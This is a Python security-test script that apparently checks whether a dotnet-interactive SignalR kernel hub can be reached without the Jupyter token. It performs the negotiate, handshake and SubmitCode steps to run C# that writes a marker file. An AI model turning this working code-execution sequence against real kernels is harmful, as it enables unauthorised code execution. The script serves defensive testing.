"""The attack on the kernel's side server (docs/security.md), as a local process without the Jupyter token would try it.

    python3 kernel_attack.py MARKER TARGET...     TARGET: unix:/path/to/socket or tcp:HOST:PORT

For each target it speaks dotnet-interactive's SignalR kernel hub (/kernelhub): negotiate, handshake, then a
SubmitCode command whose C# writes MARKER. It prints one line per target saying how far it got; whether the
code ran is for the caller to see (MARKER exists). Standard library only: it also runs inside the image.
"""
import http.client
import json
import socket
import sys
import uuid


class UnixConnection(http.client.HTTPConnection):
    def __init__(self, path):
        super().__init__("localhost", timeout=3)
        self.socket_path = path

    def connect(self):
        self.sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        self.sock.settimeout(3)
        self.sock.connect(self.socket_path)


def connection(target):
    kind, _, rest = target.partition(":")
    if kind == "unix":
        return UnixConnection(rest)
    host, _, port = rest.rpartition(":")
    return http.client.HTTPConnection(host.strip("[]"), int(port), timeout=3)


def post(target, url, body=b""):
    conn = connection(target)
    conn.request("POST", url, body=body, headers={"Content-Type": "text/plain", "Origin": "http://attacker.example"})
    response = conn.getresponse()
    return response.status, response.read()


def attack(target, marker):
    status, body = post(target, "/kernelhub/negotiate?negotiateVersion=1")
    if status != 200:
        return f"not a kernel hub (HTTP {status})"
    hub = f"/kernelhub?id={json.loads(body)['connectionToken']}"
    conn = connection(target)
    conn.request("GET", hub)   # long polling: the first poll opens the connection
    conn.getresponse().read()
    post(target, hub, b'{"protocol":"json","version":1}\x1e')
    command = {"commandType": "SubmitCode", "token": str(uuid.uuid4()),
               "command": {"code": f'System.IO.File.WriteAllText("{marker}", "ran");', "targetKernelName": "csharp"}}
    invocation = {"type": 1, "target": "submitCommand", "arguments": [json.dumps(command)]}
    post(target, hub, json.dumps(invocation).encode() + b"\x1e")
    return "SUBMITTED code to the kernel hub"


def main():
    marker, targets = sys.argv[1], sys.argv[2:]
    for target in targets:
        try:
            outcome = attack(target, marker)
        except (OSError, http.client.HTTPException, ValueError, KeyError) as e:
            outcome = f"refused ({type(e).__name__}: {e})"
        print(f"{target}: {outcome}", flush=True)


main()
